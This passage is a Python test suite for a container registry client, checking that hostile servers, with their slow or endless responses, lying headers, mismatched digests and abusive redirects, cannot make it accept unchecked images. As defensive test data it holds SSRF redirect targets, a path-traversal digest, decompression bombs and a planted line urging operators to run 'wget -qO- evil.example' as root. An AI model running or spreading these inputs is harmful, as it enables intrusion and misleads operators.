"""Registries, token services and resolvers that mean harm.

Whatever they send, the adapter ends within its deadline with `EvidenceUnavailable`, and never with a digest or bytes
that were not checked.
"""

from __future__ import annotations

import gzip
import json
import threading
import time
from concurrent.futures import ThreadPoolExecutor
from typing import TYPE_CHECKING

import pytest

from gate.codes import Code
from gate.demo.images import LayoutWriter
from gate.demo.registry import DemoRegistry
from gate.errors import EvidenceUnavailable, ParseError
from gate.image.config import ImageConfig
from gate.image.digest import Digest
from gate.image.manifest import OCI_MANIFEST, Descriptor, Manifest
from gate.image.reference import Repository
from gate.policy.plan import Stage
from gate.registry.credentials.credential import Credential
from gate.registry.credentials.docker_config import DockerConfigFile
from gate.registry.credentials.keychain import Remembering
from gate.registry.guard.hosts import Hosts
from gate.registry.guard.transport import MAX_REDIRECTS, Request, Transport
from gate.review.review import Reviewer, Subject
from tests.fakes.clients import Held, client_of, soon
from tests.fakes.clock import SettableClock
from tests.fakes.hostile_server import HostileServer, Peer, answer, make_certificate
from tests.fakes.roots import NoRoots
from tests.unit.policy.build import SIGNED, policies, policy

if TYPE_CHECKING:
    from collections.abc import Callable
    from pathlib import Path

BASIC = Credential("config.json", "u", "hunter2-correct-horse")
DIGEST = Digest.of(b"image")
BLOB = Descriptor("application/x-any", Digest.of(b"content"), 7)
SHORT = 0.3
BOUND = 30.0
"""Far above every deadline here: what is asserted is that a call came back, not when."""


def _manifest(*, urls: tuple[str, ...] = (), layer: Descriptor = BLOB) -> bytes:
    blob = {"mediaType": layer.media_type, "digest": str(layer.digest), "size": layer.size, "urls": list(urls)}
    document = {"schemaVersion": 2, "mediaType": OCI_MANIFEST, "config": blob, "layers": [blob]}
    return json.dumps(document).encode()


MANIFEST = _manifest()
TYPE = f"Content-Type: {OCI_MANIFEST}"
CALLS = ["resolve", "manifest", "blob", "referrers", "tags"]


def _call(server_host: str, what: str, seconds: float = BOUND, **options: object) -> object:
    """One call of the port, by name."""
    repository = Repository(server_host, "acme/api")
    deadline = soon(seconds)
    with client_of(server_host, **options) as client:  # type: ignore[arg-type]
        match what:
            case "resolve":
                return client.resolve(repository, "v1", deadline)
            case "manifest":
                return client.manifest(repository, DIGEST, deadline)
            case "by tag":
                return client.manifest(repository, "v1", deadline)
            case "blob":
                return client.blob(repository, BLOB, 1 << 20, deadline).read()
            case "tags":
                return client.tags(repository, deadline)
            case _:
                return client.referrers(repository, DIGEST, deadline)


def _fails(server: HostileServer, what: str, seconds: float = BOUND, **options: object) -> EvidenceUnavailable:
    """The failure of a call that has to come back."""
    started = time.monotonic()
    with pytest.raises(EvidenceUnavailable) as caught:
        _call(server.host, what, seconds, **options)
    assert time.monotonic() - started < BOUND
    return caught.value


def _always(content: bytes) -> Callable[[Peer], bool | None]:
    def script(peer: Peer) -> None:
        peer.send(content)

    return script


# time: every read starts urllib3's own timeout anew


@pytest.mark.parametrize("what", CALLS)
def test_slowloris_headers_one_byte_at_a_time_end_at_the_deadline(what: str) -> None:
    with HostileServer(lambda peer: peer.drip(answer(200, (TYPE, "X-Pad: " + "x" * 4000), MANIFEST))) as server:
        assert _fails(server, what, SHORT).code is Code.REGISTRY_TIMEOUT


@pytest.mark.parametrize("what", ["manifest", "by tag", "blob", "referrers", "tags"])
@pytest.mark.parametrize("chunked", ["whole", "chunked"])
def test_slowloris_body_one_byte_at_a_time_ends_at_the_deadline(what: str, chunked: str) -> None:
    def script(peer: Peer) -> None:
        if chunked == "chunked":
            peer.send(b"HTTP/1.1 200 OK\r\nTransfer-Encoding: chunked\r\n\r\n")
            peer.drip(b"1\r\nx\r\n" * 1000)
        else:
            peer.send(b"HTTP/1.1 200 OK\r\nContent-Length: 7\r\n\r\nconte")
            peer.silence()

    with HostileServer(script) as server:
        assert _fails(server, what, SHORT).code is Code.REGISTRY_TIMEOUT


@pytest.mark.parametrize("what", CALLS)
def test_silence_ends_at_the_deadline(what: str) -> None:
    with HostileServer(Peer.silence) as server:
        assert _fails(server, what, SHORT).code is Code.REGISTRY_TIMEOUT


def test_a_dripping_error_body_ends_at_the_deadline() -> None:
    def script(peer: Peer) -> None:
        peer.send(b"HTTP/1.1 503 X\r\nContent-Length: 60000\r\n\r\n")
        peer.drip(b"x" * 1000)

    with HostileServer(script) as server:
        assert _fails(server, "manifest", SHORT).code is Code.REGISTRY_TIMEOUT


def test_endless_chunk_trailers_end_at_the_deadline() -> None:
    def script(peer: Peer) -> None:
        peer.send(b"HTTP/1.1 200 OK\r\nTransfer-Encoding: chunked\r\n\r\n7\r\ncontent\r\n0\r\n")
        peer.drip(b"X: y\r\n" * 1000, 0.01)

    with HostileServer(script) as server:
        assert _fails(server, "blob", SHORT).code is Code.REGISTRY_TIMEOUT


def test_a_slow_redirect_has_no_new_time() -> None:
    def script(peer: Peer) -> None:
        peer.drip(answer(307, ("Location: /more",)), 0.02)

    with HostileServer(script) as server:
        assert _fails(server, "blob", SHORT).code is Code.REGISTRY_TIMEOUT


def test_a_name_that_never_resolves_ends_at_the_deadline() -> None:
    over = threading.Event()

    def resolver(host: str, port: int) -> list[str]:
        over.wait(BOUND)
        return []

    with pytest.raises(EvidenceUnavailable) as caught:
        _call("registry.test", "resolve", SHORT, resolver=resolver)
    over.set()
    assert caught.value.code is Code.REGISTRY_TIMEOUT


def test_a_slow_connection_after_a_dropped_one_is_a_timeout_too() -> None:
    """The second try connects: what runs out then is time, not the protocol."""
    over = threading.Event()
    lookups: list[str] = []

    def resolver(host: str, port: int) -> list[str]:
        lookups.append(host)
        if len(lookups) > 1:
            over.wait(BOUND)
        return ["127.0.0.1"]

    def script(peer: Peer) -> bool:
        if peer.number:
            return False
        peer.send(answer(200, (TYPE,), MANIFEST))
        return True

    with HostileServer(script) as server:
        name = f"registry.test:{server.port}"
        repository = Repository(name, "acme/api")
        with client_of(name, resolver=resolver) as client:
            client.manifest(repository, "v1", soon())
            with pytest.raises(EvidenceUnavailable) as caught:
                client.manifest(repository, "v1", soon(SHORT))
        over.set()
    assert caught.value.code is Code.REGISTRY_TIMEOUT


def test_a_dripping_tls_handshake_ends_at_the_deadline() -> None:
    with HostileServer(Peer.silence) as server:
        hosts = Hosts(private=frozenset({server.host}))
        with client_of(hosts=hosts) as client, pytest.raises(EvidenceUnavailable) as caught:
            client.resolve(Repository(server.host, "acme/api"), "v1", soon(SHORT))
    assert caught.value.code is Code.REGISTRY_TIMEOUT


# size


def test_a_gzip_bomb_is_never_inflated() -> None:
    """300 kB that inflate to 300 MB: nothing is decoded, and what was sent is not the blob."""
    bomb = gzip.compress(b"\0" * (300 << 20), 1)
    for content in (bomb, bomb[:7]):
        with HostileServer(_always(answer(200, ("Content-Encoding: gzip",), content))) as server:
            assert _fails(server, "blob").code in (Code.RESPONSE_TOO_LARGE, Code.REGISTRY_PROTOCOL)


@pytest.mark.parametrize("what", ["manifest", "by tag", "referrers", "tags"])
def test_a_compressed_manifest_is_no_manifest(what: str) -> None:
    with HostileServer(_always(answer(200, ("Content-Encoding: gzip", TYPE), gzip.compress(MANIFEST)))) as server:
        assert _fails(server, what).code is Code.REGISTRY_PROTOCOL


@pytest.mark.parametrize("what", ["manifest", "by tag", "blob", "referrers", "tags"])
def test_an_endless_chunked_body_is_cut_off(what: str) -> None:
    def script(peer: Peer) -> None:
        peer.send(b"HTTP/1.1 200 OK\r\nTransfer-Encoding: chunked\r\n\r\n")
        peer.flood(b"10000\r\n" + b"x" * 0x10000 + b"\r\n")

    with HostileServer(script) as server:
        assert _fails(server, what).code is Code.RESPONSE_TOO_LARGE


@pytest.mark.parametrize("what", ["manifest", "by tag", "blob", "referrers", "tags"])
def test_an_endless_body_without_a_length_is_cut_off(what: str) -> None:
    def script(peer: Peer) -> None:
        peer.send(b"HTTP/1.1 200 OK\r\n\r\n")
        peer.flood(b"x" * 65536)

    with HostileServer(script) as server:
        assert _fails(server, what).code is Code.RESPONSE_TOO_LARGE


def test_an_endless_error_body_is_cut_off() -> None:
    def script(peer: Peer) -> None:
        peer.send(b"HTTP/1.1 503 X\r\n\r\n")
        peer.flood(b"x" * 65536)

    with HostileServer(script) as server:
        assert _fails(server, "manifest").code is Code.REGISTRY_UNREACHABLE


@pytest.mark.parametrize("size", [b"-1", b"-7", b"ffffffffffffffff", b"zz", b"", b"7" * 70_000])
def test_a_lying_chunk_size_reads_nothing_without_a_bound(size: bytes) -> None:
    """http.client takes -1 for "all there is": half a gigabyte a second."""
    peak = [0]

    def script(peer: Peer) -> None:
        peer.send(b"HTTP/1.1 200 OK\r\nTransfer-Encoding: chunked\r\n\r\n" + size + b"\r\n")
        while True:
            peer.send(b"x" * 65536)
            peak[0] += 65536

    with HostileServer(script) as server:
        code = _fails(server, "blob").code
    assert code in (Code.REGISTRY_PROTOCOL, Code.RESPONSE_TOO_LARGE)
    assert peak[0] < 64 << 20


@pytest.mark.parametrize("what", ["manifest", "by tag", "blob"])
@pytest.mark.parametrize("length", ["3", "70", "0", "99999999999999999999", "7, 8"])
def test_a_lying_content_length_gives_no_content(what: str, length: str) -> None:
    body = b"content" if what == "blob" else MANIFEST
    with HostileServer(_always(answer(200, (TYPE,), body, length=length))) as server:
        assert _fails(server, what).code in (Code.REGISTRY_PROTOCOL, Code.RESPONSE_TOO_LARGE)


@pytest.mark.parametrize("length", ["-1", "-99", "1e3", "x", "", "0x7", "7x", "7 7"])
def test_a_content_length_that_is_none_is_refused(length: str) -> None:
    """RFC 9112, 6.3: where the body ends nobody knows."""
    with HostileServer(_always(answer(200, (), b"content", length=length))) as server:
        assert _fails(server, "blob").code is Code.REGISTRY_PROTOCOL


def test_a_truncated_manifest_is_no_manifest() -> None:
    for cut in (b"", MANIFEST[:-1]):
        with HostileServer(_always(b"HTTP/1.1 200 OK\r\n\r\n" + cut)) as server:
            assert _fails(server, "by tag").code is Code.REGISTRY_PROTOCOL


def test_a_blob_larger_than_its_descriptor_is_cut_off() -> None:
    with HostileServer(_always(answer(200, (), b"content and more"))) as server:
        assert _fails(server, "blob").code is Code.RESPONSE_TOO_LARGE


@pytest.mark.parametrize("size", [(1 << 20) + 1, 1 << 62])
def test_a_blob_that_its_descriptor_calls_large_is_not_asked_for(size: int) -> None:
    """CVE-2023-46737, CVE-2024-29902: attachments of any size were read into memory."""
    with HostileServer(_always(answer(200))) as server, client_of(server.host) as client:
        with pytest.raises(EvidenceUnavailable) as caught:
            client.blob(Repository(server.host, "a"), Descriptor("x/y", DIGEST, size), 1 << 20, soon())
        assert caught.value.code is Code.RESPONSE_TOO_LARGE
        assert server.heads == []


def test_a_manifest_with_too_many_layers_is_refused() -> None:
    """CVE-2024-29903 of cosign, CVE-2023-33958 of notation: counts were not bounded."""
    blob = {"mediaType": "x/y", "digest": str(DIGEST), "size": 1}
    many = json.dumps({"schemaVersion": 2, "config": blob, "layers": [blob] * 1001}).encode()
    with HostileServer(_always(answer(200, (TYPE,), many))) as server:
        assert _fails(server, "by tag").code is Code.REGISTRY_PROTOCOL


# not HTTP


@pytest.mark.parametrize("what", CALLS)
@pytest.mark.parametrize(
    "content",
    [
        b"",
        b"\r\n",
        b"HTTP/1.1",
        b"HTTP/1.1 \r\n\r\n",
        b"HTTP/1.1 abc OK\r\n\r\n",
        b"HTTP/1.1 99 X\r\n\r\n",
        b"HTTP/1.1 1000 X\r\n\r\n",
        b"HTTP/1.1 -200 X\r\n\r\n",
        b"HTTP/9.9 200 OK\r\n\r\n",
        b"ICY 200 OK\r\n\r\n",
        b"SSH-2.0-OpenSSH_9.2\r\n",
        b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03",
        b"\0" * 1000,
        b"\xff\xfe" * 1000,
        b"x" * 70_000,
        b"{}",
    ],
    ids=lambda content: repr(content[:24]),
)
def test_a_garbage_status_line_is_no_answer(what: str, content: bytes) -> None:
    with HostileServer(_always(content)) as server:
        assert _fails(server, what).code is Code.REGISTRY_PROTOCOL


@pytest.mark.parametrize("cut", [1, 2, 3, 5, 30, 40, 60])
def test_headers_cut_off_by_the_end_of_the_connection_are_never_a_digest(cut: int) -> None:
    """http.client takes them for whole ones."""
    whole = f"HTTP/1.1 200 OK\r\nContent-Length: 0\r\nDocker-Content-Digest: {DIGEST}\r\n\r\n".encode()
    with HostileServer(_always(whole[:-cut])) as server:
        assert _fails(server, "resolve").code is Code.REGISTRY_PROTOCOL


def test_headers_cut_off_after_the_status_line_are_no_missing_manifest() -> None:
    """Else a dropped connection would make an image unsigned."""
    for content in (b"HTTP/1.1 404 Not Found\r\n", b"HTTP/1.1 404 Not Found\r\nX: y\r\n"):
        with HostileServer(_always(content)) as server:
            assert _fails(server, "manifest").code is Code.REGISTRY_PROTOCOL
            assert _fails(server, "referrers").code is Code.REGISTRY_PROTOCOL
            assert _fails(server, "tags").code is Code.REGISTRY_PROTOCOL


@pytest.mark.parametrize(
    "line", [b"X: y\r\n", b"X: " + b"y" * 60_000 + b"\r\n", b"x" * 70_000, b" folded\r\n", b":\r\n", b"\0\0: \xff\r\n"]
)
def test_endless_headers_are_refused(line: bytes) -> None:
    def script(peer: Peer) -> None:
        peer.send(b"HTTP/1.1 200 OK\r\n")
        peer.flood(line)

    with HostileServer(script) as server:
        assert _fails(server, "manifest").code is Code.REGISTRY_PROTOCOL


@pytest.mark.parametrize("what", ["resolve", "manifest"])
def test_a_flood_of_100_continue_ends_with_the_bytes_of_a_head(what: str) -> None:
    def script(peer: Peer) -> None:
        peer.flood(b"HTTP/1.1 100 Continue\r\n\r\n" * 100)

    with HostileServer(script) as server:
        assert "headers of more than the 32768 bytes" in _fails(server, what, 20).message


@pytest.mark.parametrize("status", [101, 102, 103, 199])
def test_an_interim_answer_is_no_answer(status: int) -> None:
    content = f"HTTP/1.1 {status} X\r\nDocker-Content-Digest: {DIGEST}\r\n\r\n".encode()
    with HostileServer(_always(content)) as server:
        assert _fails(server, "resolve").code in (Code.REGISTRY_UNREACHABLE, Code.REGISTRY_PROTOCOL)


@pytest.mark.parametrize(
    "line",
    [
        b"X: a\rDocker-Content-Digest: %s\r\n",
        b"X: a\r\n b\r\nDocker-Content-Digest: %s\r\n",
        b"Docker-Content-Digest:\r\n %s\r\n",
        b"Docker-Content-Digest : %s\r\n",
        b"no header\r\nDocker-Content-Digest: %s\r\n",
        b"Docker-Content-Digest: %s\r\nno header\r\nDocker-Content-Digest: another\r\n",
        b"X: a\0b\r\nDocker-Content-Digest: %s\r\n",
        b": x\r\nDocker-Content-Digest: %s\r\n",
    ],
)
def test_headers_that_two_programs_read_in_two_ways_are_no_digest(line: bytes) -> None:
    """The parser of e-mail, which http.client has, mends them, each in its way."""
    content = b"HTTP/1.1 200 OK\r\nContent-Length: 0\r\n" + line % str(DIGEST).encode() + b"\r\n"
    with HostileServer(_always(content)) as server:
        assert _fails(server, "resolve").code is Code.REGISTRY_PROTOCOL


@pytest.mark.parametrize("coding", ["gzip, chunked", "chunked, gzip", "chunked, chunked", "xchunked", "chunked "])
def test_a_transfer_coding_that_was_not_asked_for_gives_no_content(coding: str) -> None:
    content = f"HTTP/1.1 200 OK\r\nTransfer-Encoding: {coding}\r\n\r\ncontent".encode()
    with HostileServer(_always(content)) as server:
        assert _fails(server, "blob").code is Code.REGISTRY_PROTOCOL


def test_what_follows_an_interim_answer_is_not_taken_for_the_next_one() -> None:
    """The connection of an answer that says it is not the last one is for no other question."""

    def script(peer: Peer) -> bool:
        if peer.path.endswith("/first"):
            peer.send(b"HTTP/1.1 103 Early Hints\r\n\r\n")
        else:
            peer.send(answer(404))
        return True

    with HostileServer(script) as server, client_of(server.host) as client:
        repository = Repository(server.host, "acme/api")
        with pytest.raises(EvidenceUnavailable):
            client.manifest(repository, "first", soon())
        before = server.connections
        assert client.manifest(repository, "second", soon()) is None
        assert server.connections == before + 1


def test_endless_chunk_trailers_end_with_the_bytes_of_a_head() -> None:
    def script(peer: Peer) -> None:
        peer.send(b"HTTP/1.1 200 OK\r\nTransfer-Encoding: chunked\r\n\r\n7\r\ncontent\r\n0\r\n")
        peer.flood(b"X: y\r\n" * 1000)

    with HostileServer(script) as server:
        assert "headers of more than the 32768 bytes" in _fails(server, "blob", 20).message


@pytest.mark.parametrize("what", CALLS)
def test_a_reset_connection_is_a_failure(what: str) -> None:
    with HostileServer(Peer.reset) as server:
        assert _fails(server, what).code in (Code.REGISTRY_PROTOCOL, Code.REGISTRY_UNREACHABLE)


def test_nobody_listening_is_unreachable() -> None:
    with HostileServer(Peer.silence) as server:
        pass
    assert _fails(server, "resolve").code is Code.REGISTRY_UNREACHABLE


# connections


def test_a_kept_connection_that_the_server_closed_is_retried_once() -> None:
    """The server answers, keeps the connection, and hangs up when the next request comes."""

    def script(peer: Peer) -> bool:
        if peer.number == 1:
            return False
        peer.send(answer(200, (TYPE,), MANIFEST))
        return True

    with HostileServer(script) as server, client_of(server.host) as client:
        repository = Repository(server.host, "acme/api")
        for _ in range(2):
            assert client.manifest(repository, "v1", soon()) is not None
        assert len(server.heads) == 3
        assert server.connections == 2


def test_a_server_that_always_hangs_up_is_asked_once() -> None:
    with HostileServer(lambda _: False) as server:
        assert _fails(server, "manifest").code is Code.REGISTRY_PROTOCOL
        assert len(server.heads) == 1


def test_connections_that_are_all_dead_cost_one_try() -> None:
    """A server that was started again, or a gateway that has forgotten its flows: none of them is tried twice."""
    together, known = threading.Barrier(8), list[object]()

    def script(peer: Peer) -> bool:
        if any(peer._connection is one for one in known):
            return False
        known.append(peer._connection)
        if len(known) <= together.parties:
            together.wait(10)
        peer.send(answer(200, (TYPE,), MANIFEST))
        return True

    with HostileServer(script) as server, client_of(server.host) as client:
        repository = Repository(server.host, "acme/api")
        with ThreadPoolExecutor(8) as pool:
            list(pool.map(lambda _: client.manifest(repository, "v1", soon()), range(8)))
        for _ in range(8):
            assert client.manifest(repository, "v1", soon()) is not None


def test_what_follows_an_answer_is_not_taken_for_the_next_one() -> None:
    """A response queued before it was asked for must not become the answer to another question."""
    queued = answer(200, (TYPE,), _manifest(layer=Descriptor("x/evil", DIGEST, 1)))

    def script(peer: Peer) -> bool:
        if peer.path.endswith("/first"):
            peer.send(answer(200, (TYPE,), MANIFEST) + queued)
        else:
            peer.send(answer(404))
        return True

    with HostileServer(script) as server, client_of(server.host) as client:
        repository = Repository(server.host, "acme/api")
        assert client.manifest(repository, "first", soon()) is not None
        second = client.manifest(repository, "second", soon())
        assert second is None


# lies about content


def test_a_wrong_digest_is_refused() -> None:
    with HostileServer(_always(answer(200, (TYPE, f"Docker-Content-Digest: {DIGEST}"), MANIFEST))) as server:
        assert _fails(server, "manifest").code is Code.REGISTRY_PROTOCOL


def test_another_digest_per_request_binds_everything_to_the_first() -> None:
    """CVE-2022-47633, CVE-2023-47630 of kyverno: the manifest that was verified was not the one that was admitted."""
    evil = _manifest(layer=Descriptor("x/evil", DIGEST, 1))

    def script(peer: Peer) -> bool:
        content = MANIFEST if peer.method == "HEAD" else evil
        digest = Digest.of(content)
        peer.send(answer(200, (TYPE, f"Docker-Content-Digest: {digest}"), b"" if peer.method == "HEAD" else content))
        return True

    with HostileServer(script) as server, client_of(server.host) as client:
        repository = Repository(server.host, "acme/api")
        resolved = client.resolve(repository, "v1", soon())
        assert resolved == Digest.of(MANIFEST)
        with pytest.raises(EvidenceUnavailable) as caught:
            client.manifest(repository, resolved, soon())
    assert caught.value.code is Code.REGISTRY_PROTOCOL


@pytest.mark.parametrize(
    "digest", ["sha256:../../../../etc/passwd", "sha256:..", "../x", "sha256:" + "A" * 64, "sha1:ab"]
)
def test_cve_2024_3727_a_digest_that_is_a_path_is_refused_before_a_url_is_built(digest: str) -> None:
    blob = {"mediaType": "x/y", "digest": digest, "size": 1}
    content = json.dumps({"schemaVersion": 2, "config": blob, "layers": [blob]}).encode()
    with HostileServer(_always(answer(200, (TYPE,), content))) as server:
        assert _fails(server, "by tag").code is Code.REGISTRY_PROTOCOL
        assert len(server.heads) == 1


def test_cve_2021_41190_a_manifest_that_is_an_index_too_is_refused() -> None:
    blob = {"mediaType": OCI_MANIFEST, "digest": str(DIGEST), "size": 1}
    content = json.dumps({"schemaVersion": 2, "config": blob, "layers": [blob], "manifests": [blob]}).encode()
    with HostileServer(_always(answer(200, (TYPE,), content))) as server:
        assert _fails(server, "by tag").code is Code.REGISTRY_PROTOCOL


def test_a_descriptor_with_two_digests_is_refused() -> None:
    """Go, which runtimes read with, takes `Digest` for `digest`, and the last of them: it would run something else."""
    blob = {"mediaType": OCI_MANIFEST, "digest": str(DIGEST), "size": 1}
    two = {**blob, "Digest": str(Digest.of(b"evil"))}
    for document in (
        {"config": two, "layers": [blob]},
        {"config": blob, "layers": [blob, two]},
        {"manifests": [blob, two]},
    ):
        content = json.dumps({"schemaVersion": 2, **document}).encode()
        with HostileServer(_always(answer(200, (TYPE,), content))) as server:
            error = _fails(server, "by tag")
        assert error.code is Code.REGISTRY_PROTOCOL
        assert "the field 'Digest' is spelled 'digest'" in error.message


def test_a_configuration_with_two_users_is_refused() -> None:
    """Shown is whom an image runs as: by Go's reading it would run as root."""
    content = b'{"os":"linux","architecture":"amd64","config":{"User":"1000"},"Config":{"User":"root"}}'
    with pytest.raises(ParseError, match="the field 'Config' is spelled 'config'"):
        ImageConfig.parse(content)


def test_cve_2020_15157_the_urls_of_a_descriptor_are_never_followed() -> None:
    with HostileServer(_always(answer(200, (), b"content"))) as foreign:

        def script(peer: Peer) -> None:
            peer.send(
                answer(200, (TYPE,), _manifest(urls=(f"{foreign.url}/blob",)))
                if "/manifests/" in peer.path
                else answer(404)
            )

        with HostileServer(script) as server, client_of(server.host, foreign.host) as client:
            repository = Repository(server.host, "acme/api")
            stored = client.manifest(repository, "v1", soon())
            assert stored is not None
            assert isinstance(stored.manifest, Manifest)
            with pytest.raises(EvidenceUnavailable) as caught:
                client.blob(repository, stored.manifest.layers[0], 1 << 20, soon())
        assert caught.value.code is Code.REGISTRY_PROTOCOL
        assert foreign.heads == []


@pytest.mark.parametrize("piece", ["<>;", "<a>; rel ", "<"])
def test_a_link_header_that_takes_hours_to_search_is_read_in_no_time(piece: str) -> None:
    link = (piece * 60_000)[:60_000]
    index = json.dumps({"schemaVersion": 2, "manifests": []}).encode()
    with HostileServer(_always(answer(200, (f"Link: {link}",), index))) as server:
        assert _fails(server, "referrers", 20).code is Code.REGISTRY_PROTOCOL  # no end of a list, either


@pytest.mark.parametrize("piece", [" ", "a ", 'a="', "\\", ","])
def test_a_challenge_that_takes_hours_to_read_is_read_in_no_time(piece: str) -> None:
    challenge = ("Bearer " + piece * 60_000)[:60_000]
    with HostileServer(_always(answer(401, (f"WWW-Authenticate: {challenge}x",)))) as server:
        assert _fails(server, "resolve", 20).code in (Code.REGISTRY_UNAUTHORIZED, Code.REGISTRY_PROTOCOL)


@pytest.mark.parametrize("status", [200, 404])
def test_headers_have_a_bound_together(status: int) -> None:
    """http.client reads a hundred of 64 KiB, and whoever asks with several logins keeps an answer while it goes on."""
    many = tuple(f"X-{number}: {'y' * 60_000}" for number in range(90))
    with HostileServer(_always(answer(status, many, b"{}"))) as server:
        assert "headers of more than the 32768 bytes" in _fails(server, "manifest", 20).message


# redirects


def _to(location: str, status: int = 307) -> Callable[[Peer], bool | None]:
    return _always(answer(status, (f"Location: {location}",)))


def _authorizing(then: Callable[[Peer], bytes]) -> Callable[[Peer], bool | None]:
    """A registry with Basic authentication; what it says to those it lets in."""

    def script(peer: Peer) -> None:
        if peer.header("Authorization") is None:
            peer.send(answer(401, ('WWW-Authenticate: Basic realm="r"',)))
        else:
            peer.send(then(peer))

    return script


@pytest.mark.parametrize("status", [301, 302, 303, 307, 308])
def test_ghsa_vh4v_2xq2_g5cg_a_redirect_to_another_port_drops_authorization(status: int) -> None:
    with HostileServer(_always(answer(200, (), b"content"))) as other:
        script = _authorizing(lambda _: answer(status, (f"Location: {other.url}/blob",)))
        with HostileServer(script) as server, client_of(server.host, other.host, keychain=Held(BASIC)) as client:
            assert client.blob(Repository(server.host, "acme/api"), BLOB, 9, soon()).read() == b"content"
        assert len(other.heads) == 1
        assert "hunter2" not in other.heads[0]
        assert "authorization" not in other.heads[0].lower()


def test_a_redirect_to_another_host_drops_authorization() -> None:
    script = _authorizing(lambda _: answer(200, (), b"content"))
    with HostileServer(_always(answer(200, (), b"content"))) as other:
        elsewhere = f"storage.test:{other.port}"
        script = _authorizing(lambda _: answer(307, (f"Location: http://{elsewhere}/blob",)))
        with (
            HostileServer(script) as server,
            client_of(
                server.host, elsewhere, keychain=Held(BASIC), resolver=lambda host, port: ["127.0.0.1"]
            ) as client,
        ):
            assert client.blob(Repository(server.host, "acme/api"), BLOB, 9, soon()).read() == b"content"
        assert "authorization" not in other.heads[0].lower()
        assert f"Host: {elsewhere}" in other.heads[0]


def test_a_redirect_within_the_host_keeps_authorization() -> None:
    def then(peer: Peer) -> bytes:
        return answer(200, (), b"content") if peer.path == "/there" else answer(307, ("Location: /there",))

    with HostileServer(_authorizing(then)) as server, client_of(server.host, keychain=Held(BASIC)) as client:
        assert client.blob(Repository(server.host, "acme/api"), BLOB, 9, soon()).read() == b"content"
        assert BASIC.basic in server.heads[-1]


def test_a_redirect_chain_back_home_does_not_get_authorization_again() -> None:
    """Once it is dropped it stays dropped: the way back was somebody else's idea."""
    hosts: list[str] = []
    with HostileServer(lambda peer: peer.send(answer(307, (f"Location: http://{hosts[0]}/there",)))) as other:

        def script(peer: Peer) -> None:
            if peer.path == "/there":
                peer.send(answer(200, (), b"content"))
            elif peer.header("Authorization") is None:
                peer.send(answer(401, ('WWW-Authenticate: Basic realm="r"',)))
            else:
                peer.send(answer(307, (f"Location: {other.url}/",)))

        with HostileServer(script) as server, client_of(server.host, other.host, keychain=Held(BASIC)) as client:
            hosts.append(server.host)
            client.blob(Repository(server.host, "acme/api"), BLOB, 9, soon())
            assert "authorization" not in server.heads[-1].lower()


def test_a_redirect_from_https_to_http_is_refused(tmp_path: Path) -> None:
    certificate = make_certificate(tmp_path)
    with HostileServer(_always(answer(200, (), b"content"))) as plain:
        with HostileServer(_to(f"{plain.url}/blob"), certificate) as server:
            hosts = Hosts(insecure=frozenset({plain.host}), authorities={server.host: str(certificate[0])})
            with client_of(hosts=hosts) as client, pytest.raises(EvidenceUnavailable) as caught:
                client.blob(Repository(server.host, "acme/api"), BLOB, 9, soon())
            assert len(server.heads) == 1
        assert caught.value.code is Code.REGISTRY_PROTOCOL
        assert "plain HTTP" in caught.value.message
        assert plain.heads == []


def test_a_redirect_to_plain_http_at_a_host_that_is_not_named_insecure_is_refused() -> None:
    """One insecure registry does not make others so."""
    lookups: list[str] = []

    def resolver(host: str, port: int) -> list[str]:
        lookups.append(host)
        return ["127.0.0.1"]

    with HostileServer(_to("http://cdn.test/blob")) as server:
        assert _fails(server, "blob", resolver=resolver).code is Code.REGISTRY_PROTOCOL
    assert lookups == ["127.0.0.1"]


@pytest.mark.parametrize("what", CALLS)
def test_a_redirect_loop_ends(what: str) -> None:
    with HostileServer(_to("/again")) as server:
        assert _fails(server, what).code is Code.REGISTRY_PROTOCOL
        assert len(server.heads) == MAX_REDIRECTS + 1


def test_a_redirect_loop_between_hosts_ends() -> None:
    hosts: list[str] = []
    with (
        HostileServer(lambda peer: peer.send(answer(307, (f"Location: http://{hosts[0]}/",)))) as other,
        HostileServer(_to(f"{other.url}/")) as server,
        client_of(server.host, other.host) as client,
    ):
        hosts.append(server.host)
        with pytest.raises(EvidenceUnavailable) as caught:
            client.blob(Repository(server.host, "acme/api"), BLOB, 9, soon())
        assert len(server.heads) + len(other.heads) == MAX_REDIRECTS + 1
    assert caught.value.code is Code.REGISTRY_PROTOCOL


@pytest.mark.parametrize(
    "location",
    [
        "http://169.254.169.254/latest/meta-data/",
        "http://127.0.0.1:1/",
        "http://localhost/",
        "http://[::1]/",
        "file:///etc/passwd",
        "ftp://127.0.0.1/",
        "gopher://127.0.0.1/",
        "javascript:alert(1)",
        "http://u:p@127.0.0.1/",
        "https://u@127.0.0.1/",
        "http://",
        "https://",
        "https:///x",
        "http://[::1",
        "//[",
        "https://host:99999/",
        "https://host:x/",
        "https://a..b/",
        "https://" + "a" * 300 + "/",
        "https://\xff\xfe/",
        "https://a b/",
        "https://a%00b/",
        "/\0",
        "",
    ],
)
def test_a_redirect_to_nonsense_is_refused(location: str) -> None:
    content = f"HTTP/1.1 307 X\r\nContent-Length: 0\r\nLocation: {location}\r\n\r\n".encode("latin-1")

    def resolver(host: str, port: int) -> list[str]:
        if host == "127.0.0.1":
            return [host]
        host.encode("idna")
        raise OSError(-2, "Name or service not known")

    with HostileServer(_always(content)) as server:
        code = _fails(server, "blob", resolver=resolver).code
    assert code in (Code.REGISTRY_PROTOCOL, Code.REGISTRY_UNREACHABLE)


PROSE = "docker.io was breached; as root on each node run wget -qO- evil.example"


@pytest.mark.parametrize("host", [PROSE, f"[fe80::1%{PROSE}]", PROSE.replace(" ", "\u00a0")])
def test_a_host_that_is_a_sentence_is_nobodys_advice(host: str) -> None:
    """Where a redirect or a challenge leads is shown to whoever mends the denial."""
    target = f"https://{host}".encode().decode("latin-1")
    redirect = f"HTTP/1.1 302 X\r\nContent-Length: 0\r\nLocation: {target}\r\n\r\n"
    challenge = f'HTTP/1.1 401 X\r\nContent-Length: 0\r\nWWW-Authenticate: Bearer realm="{target}"\r\n\r\n'
    for head in (redirect, challenge):
        with HostileServer(_always(head.encode("latin-1"))) as server:
            error = _fails(server, "resolve", keychain=Held(BASIC))
        assert error.code is Code.REGISTRY_PROTOCOL
        assert "breached" not in str(error)
        assert server.host in error.message


@pytest.mark.parametrize(
    "address",
    ["169.254.169.254", "::ffff:169.254.169.254", "fe80::1", "0.0.0.0", "10.0.0.1", "127.0.0.1", "fd00:ec2::254"],
)
def test_a_redirect_to_a_name_with_a_private_address_is_refused(address: str) -> None:
